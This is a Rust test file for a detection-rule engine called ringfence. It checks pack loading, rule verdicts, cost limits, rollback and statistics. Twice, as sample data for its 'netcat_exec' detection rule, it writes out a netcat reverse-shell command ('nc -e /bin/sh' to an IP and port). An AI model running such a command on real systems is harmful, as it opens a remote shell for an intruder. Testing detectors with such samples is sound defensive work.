//! The engine's contract: the bundled pack loads and gives every sample event its expected
//! verdict on every backend; bad packs are refused whole, with every diagnostic, and the
//! running pack keeps running; the cost budget; bucketing; statistics; rollback.

use std::path::{Path, PathBuf};

use ringfence_verifier::{ArgKind, HelperSig, RetKind};
use ringfence_vm::engine::{DiagnosticKind, Engine, EvalError, Manifest, Severity, Timing};
use ringfence_vm::event::{EventBuf, SchemaSet};
use ringfence_vm::{Backend, Helper};
use serde_json::Value;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn endpoint_pack() -> PathBuf {
    root().join("examples/packs/endpoint")
}

/// A scratch directory for one test, emptied first.
fn scratch_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ringfence-engine-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Copies the endpoint pack into a scratch directory, with `edit` applied to its manifest.
fn edited_pack(name: &str, edit: impl FnOnce(&mut Value)) -> PathBuf {
    let dir = scratch_dir(name);
    for entry in std::fs::read_dir(endpoint_pack()).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
    }
    let manifest_path = dir.join("pack.json");
    let mut manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
    edit(&mut manifest);
    std::fs::write(
        &manifest_path,
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
    dir
}

/// (rule id, JSON event, whether that rule should match) for every sample event.
fn samples() -> Vec<(String, String, bool)> {
    let mut out = Vec::new();
    let dir = root().join("examples/events");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for file in files {
        let rule = file.file_stem().unwrap().to_string_lossy().to_string();
        for line in std::fs::read_to_string(&file).unwrap().lines() {
            if line.trim().is_empty() {
                continue;
            }
            let case: Value = serde_json::from_str(line).unwrap();
            // Plain event streams (no expectation) live there too.
            let Some(expect) = case["expect"].as_str() else {
                continue;
            };
            let expect = expect == "match";
            out.push((rule.clone(), case["event"].to_string(), expect));
        }
    }
    out
}

#[test]
fn the_endpoint_pack_gives_every_sample_its_verdict_on_every_backend() {
    for backend in Backend::ALL {
        if backend == Backend::Jit && !Backend::jit_available() {
            continue;
        }
        let engine = Engine::builder()
            .schemas(SchemaSet::endpoint())
            .backend(backend)
            .build()
            .unwrap();
        let info = engine.load_pack(endpoint_pack()).unwrap();
        assert_eq!(info.name, "endpoint-examples");
        assert_eq!(info.rules.len(), 11);
        let mut evaluator = engine.evaluator();
        evaluator.set_clock_ns(Some(1_000));
        let mut event = EventBuf::new();
        let mut checked = 0;
        for (rule, json, expect) in samples() {
            engine.encoder().encode_line(&json, 1, &mut event).unwrap();
            let evaluation = evaluator.evaluate(&event).unwrap();
            assert!(
                evaluation.faults().is_empty(),
                "{rule}: {:?}",
                evaluation.faults()
            );
            let matched = evaluation.matches().any(|m| m.rule.id == rule);
            assert_eq!(matched, expect, "{backend}: rule {rule} on {json}");
            // Every alert comes from a rule that matched, of the event's type.
            for alert in evaluation.alerts() {
                let by = evaluation.rule(alert.rule).unwrap();
                assert_eq!(by.event_type, evaluation.event_type());
            }
            checked += 1;
        }
        assert!(checked > 20);
    }
}

#[test]
fn an_event_meets_only_the_rules_of_its_type() {
    let engine = Engine::builder().build().unwrap();
    let info = engine.load_pack(endpoint_pack()).unwrap();
    let mut evaluator = engine.evaluator();
    let mut event = EventBuf::new();
    for (type_name, type_id) in [
        ("process_exec", 1),
        ("file_open", 2),
        ("network_connect", 3),
        ("auth_attempt", 4),
    ] {
        engine
            .encoder()
            .encode_line(&format!(r#"{{"type": "{type_name}"}}"#), 1, &mut event)
            .unwrap();
        let evaluation = evaluator.evaluate(&event).unwrap();
        let expected = info
            .rules
            .iter()
            .filter(|r| r.event_type == type_id)
            .count();
        assert_eq!(evaluation.rules_evaluated(), expected, "{type_name}");
        assert_eq!(
            info.cost(type_name).unwrap().rules.len(),
            expected,
            "{type_name}"
        );
    }
}

#[test]
fn events_of_the_wrong_shape_are_refused_before_any_rule_runs() {
    let engine = Engine::builder().build().unwrap();
    engine.load_pack(endpoint_pack()).unwrap();
    let mut evaluator = engine.evaluator();
    let mut event = EventBuf::new();
    event.reset(99, 64);
    assert_eq!(
        evaluator.evaluate(&event).unwrap_err(),
        EvalError::UnknownEventType { type_id: 99 }
    );
    event.reset(1, 24);
    assert!(matches!(
        evaluator.evaluate(&event).unwrap_err(),
        EvalError::WrongFixedLen { expected, found: 24, .. } if expected != 24
    ));
}

#[test]
fn severities_and_disabled_rules_come_from_the_manifest() {
    let dir = edited_pack("disabled", |m| {
        m["rules"][0]["enabled"] = Value::Bool(false);
    });
    let engine = Engine::builder().build().unwrap();
    let info = engine.load_pack(&dir).unwrap();
    let netcat = info.rules.iter().find(|r| r.id == "netcat_exec").unwrap();
    assert!(!netcat.enabled);
    assert_eq!(netcat.severity, Severity::High);
    let mut evaluator = engine.evaluator();
    let mut event = EventBuf::new();
    engine
        .encoder()
        .encode_line(
            r#"{"type": "process_exec", "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]}"#,
            1,
            &mut event,
        )
        .unwrap();
    assert!(!evaluator.evaluate(&event).unwrap().is_match());
    let enabled = Engine::builder().build().unwrap();
    enabled.load_pack(endpoint_pack()).unwrap();
    let mut evaluator = enabled.evaluator();
    let evaluation = evaluator.evaluate(&event).unwrap();
    assert!(evaluation.matches().any(|m| m.rule.id == "netcat_exec"));
}

#[test]
fn a_pack_with_several_problems_is_refused_with_every_one_and_the_running_pack_stays() {
    let engine = Engine::builder().build().unwrap();
    let running = engine.load_pack(endpoint_pack()).unwrap();
    let dir = edited_pack("broken", |m| {
        // A refused rule object, a missing object, a wrong schema version.
        m["rules"][1]["object"] = Value::String("refused.o".into());
        m["rules"][2]["object"] = Value::String("missing.o".into());
        m["schema_versions"]["file_open"] = Value::from(7);
    });
    std::fs::copy(
        root().join("examples/rules/refused/exe_first_byte_unchecked.o"),
        dir.join("refused.o"),
    )
    .unwrap();
    let error = engine.load_pack(&dir).unwrap_err();
    let text = error.to_string();
    assert_eq!(error.diagnostics.len(), 3, "{text}");
    assert!(matches!(
        error.diagnostics[0].kind,
        DiagnosticKind::SchemaVersion {
            pack: 7,
            host: 1,
            ..
        }
    ));
    assert!(
        text.contains("refused.o (rule `exec_from_dev_shm`)"),
        "{text}"
    );
    assert!(text.contains("refused by the verifier"), "{text}");
    assert!(
        text.contains("missing.o (rule `exe_first_byte`): cannot read it"),
        "{text}"
    );
    assert!(text.contains("nothing of it was loaded"), "{text}");
    assert_eq!(engine.current().unwrap().id, running.id);
}

#[test]
fn a_pack_over_the_cost_ceiling_is_refused_naming_the_event_type_and_heaviest_rules() {
    let probe = Engine::builder().build().unwrap();
    let info = probe.load_pack(endpoint_pack()).unwrap();
    let exec = info.cost("process_exec").unwrap();
    let heaviest = &info.rules[exec.rules[0]];
    assert!(exec.worst_case_insns > 0);
    assert_eq!(
        exec.worst_case_insns,
        exec.rules
            .iter()
            .map(|&i| info.rules[i].worst_case_insns)
            .sum::<u64>()
    );
    assert_eq!(info.max_cost(), exec.worst_case_insns);

    // At the pack's own maximum it loads; one below it does not.
    let engine = Engine::builder()
        .max_cost_per_event(info.max_cost())
        .build()
        .unwrap();
    engine.load_pack(endpoint_pack()).unwrap();
    let tight = Engine::builder()
        .max_cost_per_event(info.max_cost() - 1)
        .build()
        .unwrap();
    let error = tight.load_pack(endpoint_pack()).unwrap_err();
    assert!(tight.current().is_none());
    let text = error.to_string();
    assert!(
        text.contains(&format!(
            "a `process_exec` event (type 1) meets rules whose worst cases add up to {} instructions, over the engine's ceiling of {}",
            exec.worst_case_insns,
            info.max_cost() - 1
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!("`{}` {}", heaviest.id, heaviest.worst_case_insns)),
        "{text}"
    );
}

#[test]
fn rollback_returns_to_the_previous_pack_and_back() {
    let engine = Engine::builder().build().unwrap();
    assert!(engine.rollback().is_err());
    let first = engine.load_pack(endpoint_pack()).unwrap();
    let second = engine.load_pack(endpoint_pack()).unwrap();
    assert_ne!(first.id, second.id);
    assert_eq!(engine.rollback().unwrap().id, first.id);
    assert_eq!(engine.current().unwrap().id, first.id);
    assert_eq!(engine.rollback().unwrap().id, second.id);
    engine.release_previous();
    assert!(engine.rollback().is_err());
    assert_eq!(engine.current().unwrap().id, second.id);
}

#[test]
fn statistics_count_evaluations_hits_and_time() {
    let engine = Engine::builder().timing(Timing::Every).build().unwrap();
    let info = engine.load_pack(endpoint_pack()).unwrap();
    let mut event = EventBuf::new();
    engine
        .encoder()
        .encode_line(
            r#"{"type": "process_exec", "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]}"#,
            1,
            &mut event,
        )
        .unwrap();
    let threads: Vec<_> = (0..2)
        .map(|_| {
            let engine = engine.clone();
            let event = event.clone();
            std::thread::spawn(move || {
                let mut evaluator = engine.evaluator();
                for _ in 0..10 {
                    evaluator.evaluate(&event).unwrap();
                }
            })
        })
        .collect();
    for thread in threads {
        thread.join().unwrap();
    }
    let stats = engine.stats().unwrap();
    assert_eq!(stats.events, 20);
    for rule in &stats.rules {
        let info = &info.rules[rule.index];
        let expected = if info.event_type == 1 { 20 } else { 0 };
        assert_eq!(rule.evaluations, expected, "{}", info.id);
        assert_eq!(rule.timed_evaluations, expected, "{}", info.id);
        assert_eq!(rule.worst_case_insns, info.worst_case_insns);
        if info.id == "netcat_exec" {
            assert_eq!(rule.hits, 20);
            assert!(rule.max_ns > 0 && rule.estimated_total_time().is_some());
        }
    }
}

fn host_helper_pack() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/engine/host_helper")
}

fn is_admin_sig() -> HelperSig {
    HelperSig::new("host_is_admin", &[ArgKind::Scalar], RetKind::Scalar)
}

#[test]
fn rules_call_the_hosts_extra_helpers_on_every_backend() {
    for backend in Backend::ALL {
        if backend == Backend::Jit && !Backend::jit_available() {
            continue;
        }
        let admins = [0u64, 1001];
        let engine = Engine::builder()
            .backend(backend)
            .helper(
                2000,
                is_admin_sig(),
                Helper::new("host_is_admin", move |_memory, [uid, ..]| {
                    Ok(u64::from(admins.contains(&uid)))
                }),
            )
            .build()
            .unwrap();
        engine.load_pack(host_helper_pack()).unwrap();
        let mut evaluator = engine.evaluator();
        let mut event = EventBuf::new();
        for (uid, admin) in [(0, true), (1000, false), (1001, true)] {
            engine
                .encoder()
                .encode_line(
                    &format!(r#"{{"type": "process_exec", "uid": {uid}}}"#),
                    1,
                    &mut event,
                )
                .unwrap();
            assert_eq!(
                evaluator.evaluate(&event).unwrap().is_match(),
                admin,
                "{backend} uid {uid}"
            );
        }
    }
}

#[test]
fn a_rule_calling_a_helper_the_host_lacks_is_refused() {
    let engine = Engine::builder().build().unwrap();
    let text = engine
        .load_pack(host_helper_pack())
        .unwrap_err()
        .to_string();
    assert!(text.contains("admin_exec.o (rule `admin_exec`)"), "{text}");
    assert!(text.contains("2000"), "{text}");
}

#[test]
fn extra_helpers_must_take_a_free_number_and_return_a_scalar() {
    let helper = || Helper::new("h", |_, _| Ok(0));
    let taken = Engine::builder()
        .helper(1, is_admin_sig(), helper())
        .build()
        .unwrap_err();
    assert!(
        taken.to_string().contains("Linux's `map_lookup_elem`"),
        "{taken}"
    );
    let rf = Engine::builder()
        .helper(1000, is_admin_sig(), helper())
        .build()
        .unwrap_err();
    assert!(rf.to_string().contains("ringfence's"), "{rf}");
    let twice = Engine::builder()
        .helper(2000, is_admin_sig(), helper())
        .helper(2000, is_admin_sig(), helper())
        .build()
        .unwrap_err();
    assert!(twice.to_string().contains("given twice"), "{twice}");
    let pointer = Engine::builder()
        .helper(
            2001,
            HelperSig::new("p", &[], RetKind::NullableMapValue),
            helper(),
        )
        .build()
        .unwrap_err();
    assert!(pointer.to_string().contains("return a scalar"), "{pointer}");
}

#[test]
fn a_pack_compiled_by_another_engine_is_not_installed() {
    let engine = Engine::builder().build().unwrap();
    let other = Engine::builder().build().unwrap();
    let pack = other.compile_pack(endpoint_pack()).unwrap();
    let error = engine.install(pack).unwrap_err();
    assert!(
        error.to_string().contains("compiled by another engine"),
        "{error}"
    );
    assert!(engine.current().is_none());
}

#[test]
fn an_engine_with_declared_schemas_refuses_a_pack_for_types_it_lacks_naming_each() {
    // The host declares only process_exec (as the built-in set has it, so its rules load).
    let endpoint = SchemaSet::endpoint();
    let exec = endpoint.get(1).unwrap().clone();
    let engine = Engine::builder()
        .schemas(SchemaSet::new().with(1, exec).unwrap())
        .build()
        .unwrap();
    let error = engine.load_pack(endpoint_pack()).unwrap_err();
    let text = error.to_string();
    for event in ["file_open", "network_connect", "auth_attempt"] {
        assert!(
            text.contains(&format!(
                "schema_versions.{event}: the host has no event type `{event}` (it has process_exec)"
            )),
            "{text}"
        );
    }
    // And each rule on those types, by its object.
    for rule in [
        "sensitive_file_read",
        "ssh_nonstandard_port",
        "failed_logins",
    ] {
        assert!(
            text.contains(&format!("{rule}.o (rule `{rule}`)")),
            "{text}"
        );
    }
    assert_eq!(error.diagnostics.len(), 6, "{text}");
}

/// Every manifest of `tests/cases/manifest/*.json` parses to what its `.expected` file says:
/// the parsed manifest, or every diagnostic, one per line. `RINGFENCE_BLESS=1` rewrites the
/// expectations.
#[test]
fn manifest_cases() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases/manifest");
    let bless = std::env::var_os("RINGFENCE_BLESS").is_some();
    let mut cases: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    cases.sort();
    assert!(cases.len() >= 8);
    let mut failures = Vec::new();
    for case in cases {
        let name = case.file_name().unwrap().to_string_lossy().to_string();
        let text = std::fs::read_to_string(&case).unwrap();
        let got = match Manifest::parse(&text, Path::new(&name)) {
            Ok(manifest) => format!("{manifest:#?}\n"),
            Err(diagnostics) => diagnostics.iter().map(|d| format!("{d}\n")).collect(),
        };
        let expected_path = case.with_extension("expected");
        if bless {
            std::fs::write(&expected_path, &got).unwrap();
            continue;
        }
        let expected = std::fs::read_to_string(&expected_path).unwrap_or_default();
        if got != expected {
            failures.push(format!("{name}:\n--- expected\n{expected}--- got\n{got}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{}\n(RINGFENCE_BLESS=1 rewrites the expectations)",
        failures.join("\n")
    );
}

#[test]
fn loading_on_several_threads_gives_the_same_pack_and_the_same_diagnostics() {
    let broken = edited_pack("threads", |m| {
        m["rules"][3]["object"] = Value::String("missing.o".into());
        m["rules"][7]["object"] = Value::String("also_missing.o".into());
    });
    let mut seen = Vec::new();
    for threads in [1, 3, 8] {
        let engine = Engine::builder().load_threads(threads).build().unwrap();
        let info = engine.load_pack(endpoint_pack()).unwrap();
        let error = engine.load_pack(&broken).unwrap_err().to_string();
        let ids: Vec<String> = info.rules.iter().map(|r| r.id.clone()).collect();
        seen.push((ids, error.replace(&format!("{}", broken.display()), "PACK")));
    }
    assert!(seen.windows(2).all(|w| w[0] == w[1]), "{seen:#?}");
    assert!(seen[0].1.contains("missing.o") && seen[0].1.contains("also_missing.o"));
}

/// A swap to a pack whose rule says `keep_maps` carries that rule's maps over, contents
/// included: `failed_logins` counts three failures under the first pack and alerts on the
/// fifth under the second, on every backend. Its twin without `keep_maps` starts the count
/// again (the default: a new pack's maps are its own), and so does the first load, with no
/// running pack to carry from.
#[test]
fn keep_maps_carries_a_rules_counts_across_a_swap() {
    let failure = r#"{"type": "auth_attempt", "pid": 1200, "uid": 0, "exe": "/usr/sbin/sshd", "user": "root", "service": "sshd", "saddr": "198.51.100.7", "success": false}"#;
    for keep_maps in [true, false] {
        let dir = edited_pack(&format!("keep-maps-{keep_maps}"), |manifest| {
            for rule in manifest["rules"].as_array_mut().unwrap() {
                if rule["id"] == "failed_logins" {
                    rule["keep_maps"] = Value::Bool(keep_maps);
                }
            }
        });
        for backend in Backend::ALL {
            if backend == Backend::Jit && !Backend::jit_available() {
                continue;
            }
            let engine = Engine::builder().backend(backend).build().unwrap();
            let mut evaluator = engine.evaluator();
            evaluator.set_clock_ns(Some(1_000));
            let mut event = EventBuf::new();
            engine
                .encoder()
                .encode_line(failure, 1, &mut event)
                .unwrap();
            let fail = |evaluator: &mut ringfence_vm::engine::Evaluator| {
                let evaluation = evaluator.evaluate(&event).unwrap();
                assert!(evaluation.faults().is_empty(), "{:?}", evaluation.faults());
                evaluation.matches().any(|m| m.rule.id == "failed_logins")
            };
            let first = engine.load_pack(&dir).unwrap();
            assert!(first.rules.iter().all(|rule| rule.carried_maps.is_empty()));
            for _ in 0..3 {
                assert!(!fail(&mut evaluator));
            }
            let second = engine.load_pack(&dir).unwrap();
            for rule in &second.rules {
                let expected: &[&str] = if keep_maps && rule.id == "failed_logins" {
                    &["failures_by_source"]
                } else {
                    &[]
                };
                assert_eq!(rule.carried_maps, expected, "{backend}: {}", rule.id);
                assert!(rule.restarted_maps.is_empty(), "{backend}: {}", rule.id);
            }
            let context = format!("{backend}, keep_maps {keep_maps}");
            assert!(!fail(&mut evaluator), "{context}: the fourth failure");
            // The fifth failure overall, or the second since the swap.
            assert_eq!(
                fail(&mut evaluator),
                keep_maps,
                "{context}: the fifth failure"
            );
        }
    }
}
